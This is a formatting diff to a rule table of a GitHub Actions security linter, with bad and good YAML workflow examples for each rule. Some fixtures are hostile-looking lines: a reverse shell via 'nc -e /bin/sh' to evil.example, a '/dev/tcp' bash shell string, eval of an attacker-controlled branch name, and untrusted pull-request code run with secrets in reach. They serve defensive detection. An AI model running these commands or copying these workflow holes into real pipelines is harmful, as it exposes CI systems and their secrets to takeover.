@@ -31,12 +31,20 @@ RULES: tuple[Rule, ...] = (
             steps("push", "      - run: make\n        if: ${{ «github.evnt_name» == 'push' }}\n"),
             steps("push", '      - run: make\n        if: github.actor == «""me"\n'.replace('«""', '«"»')),
             Example(job("push", "    if: ${{ «secrets».KEY != '' }}\n    steps:\n      - run: make\n")),
-            steps("push", "      - run: make\n        if: ${{ «steps.built».outputs.ok == 'true' }}\n      - id: built\n        run: make\n"),
+            steps(
+                "push", "      - run: make\n        if: ${{ «steps.built».outputs.ok == 'true' }}\n      - id: built\n        run: make\n"
+            ),
             steps("push", "      - run: make\n        if: ${{ «startWith(github.ref, 'refs/tags')» }}\n"),
         ),
         good=(
-            steps("push", "      - id: built\n        run: make\n      - run: make\n        if: ${{ steps.built.outputs.ok == 'true' && github.event.anything.goes }}\n"),
-            steps("push", "      - run: make\n        if: success() && startsWith(github.ref, 'refs/tags/')\n        env:\n          KEY: ${{ secrets.KEY }}\n"),
+            steps(
+                "push",
+                "      - id: built\n        run: make\n      - run: make\n        if: ${{ steps.built.outputs.ok == 'true' && github.event.anything.goes }}\n",
+            ),
+            steps(
+                "push",
+                "      - run: make\n        if: success() && startsWith(github.ref, 'refs/tags/')\n        env:\n          KEY: ${{ secrets.KEY }}\n",
+            ),
         ),
     ),
     Rule(
@@ -50,12 +58,21 @@ RULES: tuple[Rule, ...] = (
         why="A script of several lines into which expressions are written cannot be linted, quoted or reviewed as the code that will run.",
         fix="Keep the script free of ${{ … }}: hand values over in env: and use them as quoted variables.",
         match=Custom(BOTH, injection.scripts_by_template, ("run", "with")),
-        equivalents=("kics:20f14e1a", "kics:62ff6823", "checkov:CKV_GHA_2", "actionlint:expression", "semgrep:run-shell-injection", "poutine:injection"),
+        equivalents=(
+            "kics:20f14e1a",
+            "kics:62ff6823",
+            "checkov:CKV_GHA_2",
+            "actionlint:expression",
+            "semgrep:run-shell-injection",
+            "poutine:injection",
+        ),
         references=("https://docs.github.com/en/actions/concepts/security/script-injections",),
         bad=(steps("push", "      - «run»: |\n          echo start\n          echo ${{ github.ref_name }}\n"),),
         good=(
             steps("push", "      - run: |\n          echo start\n          echo ${{ github.run_id }}\n"),
-            steps("push", '      - run: |\n          echo start\n          echo "$REF"\n        env:\n          REF: ${{ github.ref_name }}\n'),
+            steps(
+                "push", '      - run: |\n          echo start\n          echo "$REF"\n        env:\n          REF: ${{ github.ref_name }}\n'
+            ),
         ),
     ),
     Rule(
@@ -68,17 +85,34 @@ RULES: tuple[Rule, ...] = (
         why="Package scripts, Makefiles, test suites and tool settings of the checkout are code; here the author of a pull request decides what they do while secrets and a token are in reach.",
         fix="Build under pull_request, without secrets. What the privileged workflow needs, hand over as data (an artifact that is read, never run).",
         match=Custom(WORKFLOW, foreign.foreign_code_run, ("steps",)),
-        equivalents=("poutine:untrusted_checkout_exec", "semgrep:pull-request-target-code-checkout", "semgrep:workflow-run-target-code-checkout", "scorecard:dangerous-workflow"),
+        equivalents=(
+            "poutine:untrusted_checkout_exec",
+            "semgrep:pull-request-target-code-checkout",
+            "semgrep:workflow-run-target-code-checkout",
+            "scorecard:dangerous-workflow",
+        ),
         references=(_PWN,),
         bad=(
-            steps("pull_request_target", "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - «run»: |\n          cd app\n          npm ci\n"),
-            steps("workflow_run", "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - uses: «./.github/actions/build»\n"),
+            steps(
+                "pull_request_target",
+                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - «run»: |\n          cd app\n          npm ci\n",
+            ),
+            steps(
+                "workflow_run",
+                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - uses: «./.github/actions/build»\n",
+            ),
             steps("issue_comment", "      - run: gh pr checkout 1\n      - «run»: ./test.sh\n"),
         ),
         good=(
-            steps("pull_request_target", "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo npm ci && git diff --stat\n"),
+            steps(
+                "pull_request_target",
+                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: echo npm ci && git diff --stat\n",
+            ),
             steps("pull_request_target", "      - uses: actions/checkout@v4\n      - run: npm ci\n"),
-            steps("pull_request", "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.head_ref }}\n      - run: npm ci\n"),
+            steps(
+                "pull_request",
+                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.head_ref }}\n      - run: npm ci\n",
+            ),
         ),
     ),
     Rule(
@@ -94,9 +128,17 @@ RULES: tuple[Rule, ...] = (
         match=Custom(WORKFLOW, foreign.artifact_code_run, ("steps",)),
         equivalents=("poutine:untrusted_checkout_exec",),
         references=(_PWN,),
-        bad=(steps("workflow_run", "      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n      - «run»: ./report.sh\n"),),
+        bad=(
+            steps(
+                "workflow_run",
+                "      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n      - «run»: ./report.sh\n",
+            ),
+        ),
         good=(
-            steps("workflow_run", "      - uses: actions/download-artifact@v4\n        with:\n          path: ${{ runner.temp }}/artifact\n      - run: ./report.sh\n"),
+            steps(
+                "workflow_run",
+                "      - uses: actions/download-artifact@v4\n        with:\n          path: ${{ runner.temp }}/artifact\n      - run: ./report.sh\n",
+            ),
             steps("workflow_run", "      - uses: actions/download-artifact@v4\n      - run: cat size.txt\n"),
         ),
     ),
@@ -117,7 +159,9 @@ RULES: tuple[Rule, ...] = (
             steps("pull_request_target", '      - run: eval «"deploy $GITHUB_HEAD_REF"»\n'),
         ),
         good=(
-            steps("issues", "      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: bash -c 'echo \"$1\"' x \"$TITLE\"\n"),
+            steps(
+                "issues", '      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: bash -c \'echo "$1"\' x "$TITLE"\n'
+            ),
             steps("issues", '      - env:\n          N: ${{ github.event.issue.number }}\n        run: bash -c "echo $N"\n'),
         ),
     ),
@@ -133,16 +177,28 @@ RULES: tuple[Rule, ...] = (
         fix="Write it to GITHUB_OUTPUT and hand it to the one step that needs it, or check it against a fixed alphabet first.",
         match=Custom(WORKFLOW, envfiles.environment_file, ("run",)),
         equivalents=("zizmor:github-env",),
-        references=(_COMMANDS, "https://www.synacktiv.com/publications/github-actions-exploitation-repo-jacking-and-environment-manipulation"),
+        references=(
+            _COMMANDS,
+            "https://www.synacktiv.com/publications/github-actions-exploitation-repo-jacking-and-environment-manipulation",
+        ),
         bad=(
-            steps("pull_request_target", '      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        «run»: |\n          echo start\n          echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n'),
+            steps(
+                "pull_request_target",
+                '      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        «run»: |\n          echo start\n          echo "TITLE=$TITLE" >> "$GITHUB_ENV"\n',
+            ),
             steps("workflow_run", "      - «run»: cat out/path.txt >> $GITHUB_PATH\n"),
-            steps("workflow_run", "      - «run»: printf 'PR=%s' \"$(cat pr.txt)\" | tee -a \"$GITHUB_ENV\"\n"),
+            steps("workflow_run", '      - «run»: printf \'PR=%s\' "$(cat pr.txt)" | tee -a "$GITHUB_ENV"\n'),
         ),
         good=(
-            steps("pull_request_target", '      - run: |\n          echo "STARTED=$(date +%s)" >> "$GITHUB_ENV"\n          echo "$HOME/.local/bin" >> "$GITHUB_PATH"\n'),
+            steps(
+                "pull_request_target",
+                '      - run: |\n          echo "STARTED=$(date +%s)" >> "$GITHUB_ENV"\n          echo "$HOME/.local/bin" >> "$GITHUB_PATH"\n',
+            ),
             steps("push", '      - run: echo "VERSION=$(cat version.txt)" >> "$GITHUB_ENV"\n'),
-            steps("pull_request_target", '      - run: echo "title=$T" >> "$GITHUB_OUTPUT"\n        env:\n          T: ${{ github.event.pull_request.title }}\n'),
+            steps(
+                "pull_request_target",
+                '      - run: echo "title=$T" >> "$GITHUB_OUTPUT"\n        env:\n          T: ${{ github.event.pull_request.title }}\n',
+            ),
         ),
     ),
     Rule(
@@ -159,10 +215,18 @@ RULES: tuple[Rule, ...] = (
         equivalents=("zizmor:github-env",),
         references=(_COMMANDS,),
         bad=(
-            Example('runs:\n  using: composite\n  steps:\n    - «run»: |\n        echo "V=$(./version)" >> $GITHUB_ENV\n      shell: bash\n'),
-            Example('runs:\n  using: composite\n  steps:\n    - «run»: |\n        echo "foo=$env:BAR" >> $env:GITHUB_ENV\n      shell: pwsh\n'),
+            Example(
+                'runs:\n  using: composite\n  steps:\n    - «run»: |\n        echo "V=$(./version)" >> $GITHUB_ENV\n      shell: bash\n'
+            ),
+            Example(
+                'runs:\n  using: composite\n  steps:\n    - «run»: |\n        echo "foo=$env:BAR" >> $env:GITHUB_ENV\n      shell: pwsh\n'
+            ),
         ),
-        good=(Example('runs:\n  using: composite\n  steps:\n    - run: |\n        echo foo=bar >> $GITHUB_ENV\n        echo "${{ github.action_path }}" >> $GITHUB_PATH\n      shell: bash\n'),),
+        good=(
+            Example(
+                'runs:\n  using: composite\n  steps:\n    - run: |\n        echo foo=bar >> $GITHUB_ENV\n        echo "${{ github.action_path }}" >> $GITHUB_PATH\n      shell: bash\n'
+            ),
+        ),
     ),
     Rule(
         id="actions-deprecated-command",
@@ -177,7 +241,12 @@ RULES: tuple[Rule, ...] = (
         equivalents=("actionlint:deprecated-commands",),
         references=("https://github.blog/changelog/2022-10-11-github-actions-deprecating-save-state-and-set-output-commands/",),
         bad=(steps("push", "      - run: |\n          echo \"«::set-output» name=v::$V\"\n          echo '«::add-path»::/opt/bin'\n"),),
-        good=(steps("push", "      - run: |\n          echo \"v=$V\" >> \"$GITHUB_OUTPUT\"\n          echo '::notice title=done::all set-output is gone'\n"),),
+        good=(
+            steps(
+                "push",
+                '      - run: |\n          echo "v=$V" >> "$GITHUB_OUTPUT"\n          echo \'::notice title=done::all set-output is gone\'\n',
+            ),
+        ),
     ),
     Rule(
         id="actions-unverified-script",
@@ -219,7 +288,10 @@ RULES: tuple[Rule, ...] = (
             steps("push", "      - run: «sudo nc -e /bin/sh evil.example 4444»\n"),
         ),
         good=(
-            steps("push", "      - run: |\n          until timeout 1 bash -c '</dev/tcp/localhost/5432'; do sleep 1; done\n          nc -z \"$DB_HOST\" 5432\n"),
+            steps(
+                "push",
+                "      - run: |\n          until timeout 1 bash -c '</dev/tcp/localhost/5432'; do sleep 1; done\n          nc -z \"$DB_HOST\" 5432\n",
+            ),
             steps("push", "      - run: echo 'bash -i >& /dev/tcp/203.0.113.9/4444' ${{ github.sha }}\n"),
         ),
     ),
@@ -237,7 +309,12 @@ RULES: tuple[Rule, ...] = (
         equivalents=("checkov:CKV_GHA_3",),
         references=(_SECURE_USE,),
         bad=(steps("push", '      - run: |\n          curl -H «"Authorization: ${{ secrets.API_KEY }}"» https://api.acme.dev\n'),),
-        good=(steps("push", '      - run: |\n          curl -H "Authorization: $API_KEY" https://api.acme.dev\n        env:\n          API_KEY: ${{ secrets.API_KEY }}\n'),),
+        good=(
+            steps(
+                "push",
+                '      - run: |\n          curl -H "Authorization: $API_KEY" https://api.acme.dev\n        env:\n          API_KEY: ${{ secrets.API_KEY }}\n',
+            ),
+        ),
     ),
     Rule(
         id="actions-cache-poisoning",
@@ -254,9 +331,14 @@ RULES: tuple[Rule, ...] = (
         references=("https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/",),
         bad=(
             steps("release", "      - uses: «Swatinem/rust-cache@v2»\n      - run: cargo build\n"),
-            Example("on:\n  push:\n    tags: ['v*']\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: «actions/setup-java@v4»\n        with:\n          cache: maven\n"),
+            Example(
+                "on:\n  push:\n    tags: ['v*']\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: «actions/setup-java@v4»\n        with:\n          cache: maven\n"
+            ),
             steps("push", "      - uses: «actions/setup-go@v5»\n      - uses: goreleaser/goreleaser-action@v6\n"),
-            steps("push", "      - uses: «actions/cache@v4»\n        with:\n          path: ~/.npm\n          key: a\n      - run: npm publish\n"),
+            steps(
+                "push",
+                "      - uses: «actions/cache@v4»\n        with:\n          path: ~/.npm\n          key: a\n      - run: npm publish\n",
+            ),
         ),
         good=(
             steps("release", "      - uses: actions/setup-go@v5\n        with:\n          cache: false\n"),
@@ -280,12 +362,23 @@ RULES: tuple[Rule, ...] = (
         equivalents=("zizmor:artipacked",),
         references=("https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",),
         bad=(
-            steps("push", "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v3\n        with:\n          path: «.»\n"),
-            steps("push", "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v4\n        with:\n          path: «${{ github.workspace }}»\n          include-hidden-files: true\n"),
+            steps(
+                "push", "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v3\n        with:\n          path: «.»\n"
+            ),
+            steps(
+                "push",
+                "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v4\n        with:\n          path: «${{ github.workspace }}»\n          include-hidden-files: true\n",
+            ),
         ),
         good=(
-            steps("push", "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - uses: actions/upload-artifact@v3\n        with:\n          path: .\n"),
-            steps("push", "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v3\n        with:\n          path: ${{ matrix.out }}/dist\n"),
+            steps(
+                "push",
+                "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - uses: actions/upload-artifact@v3\n        with:\n          path: .\n",
+            ),
+            steps(
+                "push",
+                "      - uses: actions/checkout@v4\n      - uses: actions/upload-artifact@v3\n        with:\n          path: ${{ matrix.out }}/dist\n",
+            ),
         ),
     ),
     Rule(
@@ -302,11 +395,17 @@ RULES: tuple[Rule, ...] = (
         references=("https://docs.pypi.org/trusted-publishers/",),
         bad=(
             steps("push", "      - uses: «pypa/gh-action-pypi-publish@v1»\n        with:\n          password: ${{ secrets.PYPI }}\n"),
-            steps("push", "      - uses: «actions/setup-node@v4»\n        with:\n          registry-url: https://registry.npmjs.org\n          always-auth: true\n"),
+            steps(
+                "push",
+                "      - uses: «actions/setup-node@v4»\n        with:\n          registry-url: https://registry.npmjs.org\n          always-auth: true\n",
+            ),
         ),
         good=(
             steps("push", "      - uses: pypa/gh-action-pypi-publish@v1\n"),
-            steps("push", "      - uses: pypa/gh-action-pypi-publish@v1\n        with:\n          password: ${{ secrets.TOKEN }}\n          repository-url: https://pypi.acme.dev/\n"),
+            steps(
+                "push",
+                "      - uses: pypa/gh-action-pypi-publish@v1\n        with:\n          password: ${{ secrets.TOKEN }}\n          repository-url: https://pypi.acme.dev/\n",
+            ),
         ),
     ),
     Rule(
@@ -328,7 +427,12 @@ RULES: tuple[Rule, ...] = (
         ),
         good=(
             steps("push", "      - run: cargo publish --dry-run\n"),
-            Example(job("push", "    permissions:\n      id-token: write\n    steps:\n      - run: npm publish\n        env:\n          TAG: ${{ github.ref_name }}\n")),
+            Example(
+                job(
+                    "push",
+                    "    permissions:\n      id-token: write\n    steps:\n      - run: npm publish\n        env:\n          TAG: ${{ github.ref_name }}\n",
+                )
+            ),
             steps("push", "      - run: echo npm publish\n"),
         ),
     ),
@@ -348,7 +452,9 @@ RULES: tuple[Rule, ...] = (
             steps("push", "      - uses: «actions/./checkout@v4»\n        with:\n          persist-credentials: false\n"),
             steps("push", "      - run: make\n        env:\n          A: ${{ «github[format('{0}', 'sha')]» }}\n"),
         ),
-        good=(steps("push", "      - uses: acme/tools/setup/node@v1\n      - run: make\n        env:\n          A: ${{ github['sha'] }}\n"),),
+        good=(
+            steps("push", "      - uses: acme/tools/setup/node@v1\n      - run: make\n        env:\n          A: ${{ github['sha'] }}\n"),
+        ),
     ),
     Rule(
         id="actions-constant-expression",
@@ -378,7 +484,12 @@ RULES: tuple[Rule, ...] = (
         equivalents=("zizmor:superfluous-actions",),
         references=("https://docs.github.com/en/actions/concepts/runners/github-hosted-runners",),
         bad=(steps("push", "      - uses: «softprops/action-gh-release@v2»\n"),),
-        good=(steps("push", "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: gh release create ${{ github.ref_name }}\n"),),
+        good=(
+            steps(
+                "push",
+                "      - uses: actions/checkout@v4\n        with:\n          persist-credentials: false\n      - run: gh release create ${{ github.ref_name }}\n",
+            ),
+        ),
     ),
     Rule(
         id="actions-misfeature",
@@ -410,8 +521,14 @@ RULES: tuple[Rule, ...] = (
         match=Custom(BOTH, hygiene.anonymous),
         equivalents=("zizmor:anonymous-definition",),
         references=(_SYNTAX,),
-        bad=(Example("name: Build\non: push\npermissions: {}\njobs:\n  «a»:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),),
-        good=(Example("name: Build\non: push\npermissions: {}\njobs:\n  a:\n    name: ${{ matrix.os }}\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),),
+        bad=(
+            Example("name: Build\non: push\npermissions: {}\njobs:\n  «a»:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),
+        ),
+        good=(
+            Example(
+                "name: Build\non: push\npermissions: {}\njobs:\n  a:\n    name: ${{ matrix.os }}\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
+            ),
+        ),
     ),
     Rule(
         id="actions-no-concurrency",
@@ -427,8 +544,14 @@ RULES: tuple[Rule, ...] = (
         references=(_SYNTAX,),
         bad=(
             Example("«name»: Build\non: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),
-            Example("on: push\n«concurrency»: ${{ github.ref }}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),
+            Example(
+                "on: push\n«concurrency»: ${{ github.ref }}\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
+            ),
         ),
-        good=(Example("on: push\nconcurrency:\n  group: ${{ github.ref }}\n  cancel-in-progress: true\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"),),
+        good=(
+            Example(
+                "on: push\nconcurrency:\n  group: ${{ github.ref }}\n  cancel-in-progress: true\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
+            ),
+        ),
     ),
 )
